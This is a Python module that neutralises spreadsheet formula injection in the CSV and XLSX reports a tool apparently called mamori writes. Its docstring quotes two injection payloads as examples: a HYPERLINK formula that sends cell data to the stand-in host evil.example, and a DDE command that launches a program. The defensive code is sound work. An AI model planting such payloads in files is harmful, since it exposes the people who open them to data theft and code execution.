"""Cells of the CSV and XLSX files mamori writes, made safe to open in a spreadsheet (formula injection).

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, a carriage return or a line feed before one) is
run as a formula by Excel, LibreOffice and Google Sheets when the file is opened: a file named
``=HYPERLINK("http://evil.example/?"&A2,"x").txt`` in a scan report would send the next cell to a stranger when
clicked, and ``=cmd|' /C calc'!A0`` once started programs through DDE. As OWASP advises
(https://owasp.org/www-community/attacks/CSV_Injection), such a cell gets a leading single quote, and in CSV the
field is quoted. The full-width forms (＝ ＋ － ＠) are treated the same, since a Japanese spreadsheet may read them
as the ASCII ones. Numbers are left as they are (``-3`` is a number, not a formula); every text cell goes through
here, so the quote also survives a later "save as CSV" from Excel.

Every writer of a CSV or XLSX file in mamori uses this module: the scan's CSV report
(:mod:`mamori.discovery.formats`) and the training reports (:mod:`mamori.training.reports`).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TextIO

# What a spreadsheet reads as the start of a formula (OWASP's list, plus the line feed and the full-width forms).
FORMULA_START = frozenset("=+-@\t\r\n＝＋－＠")
_QUOTE_NEEDED = frozenset(',"\r\n')
# XML 1.0 forbids these in a cell; openpyxl refuses them (IllegalCharacterError) rather than write a broken file.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]|[\ud800-\udfff]")


def neutralise(value: str) -> tuple[str, bool]:
    """``(text, changed)``: ``value`` with a leading ``'`` when a spreadsheet would run it as a formula."""
    if value and value[0] in FORMULA_START:
        return "'" + value, True
    return value, False


def text_cell(value: object) -> str:
    """The text of one cell as mamori writes it: ``None`` is empty, text that could be a formula is quoted."""
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)[0]
    return str(value)


def xlsx_cell(value: object) -> object:
    """A value to hand to openpyxl: text neutralised and stripped of characters XML cannot hold; numbers as they are.

    openpyxl stores a string that starts with ``=`` as a formula; after this it is always a string.
    """
    if isinstance(value, str):
        return _XML_ILLEGAL.sub("\ufffd", neutralise(value)[0])
    return value


class CsvWriter:
    """Writes CSV rows like ``csv.writer`` (comma, ``"`` quoting), with every text cell passed through `neutralise`.

    A neutralised field is always quoted, as OWASP advises; other fields are quoted only when they hold a comma,
    a quote or a line break. ``None`` is written as an empty field, numbers with ``str``.
    """

    def __init__(self, out: TextIO, lineterminator: str = "\r\n") -> None:
        self.out = out
        self.lineterminator = lineterminator

    @staticmethod
    def field(value: object) -> str:
        if value is None:
            return ""
        if isinstance(value, str):
            text, changed = neutralise(value)
        else:
            text, changed = str(value), False
        if changed or any(c in _QUOTE_NEEDED for c in text):
            return '"' + text.replace('"', '""') + '"'
        return text

    def writerow(self, row: Iterable[object]) -> None:
        self.out.write(",".join(self.field(v) for v in row) + self.lineterminator)

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
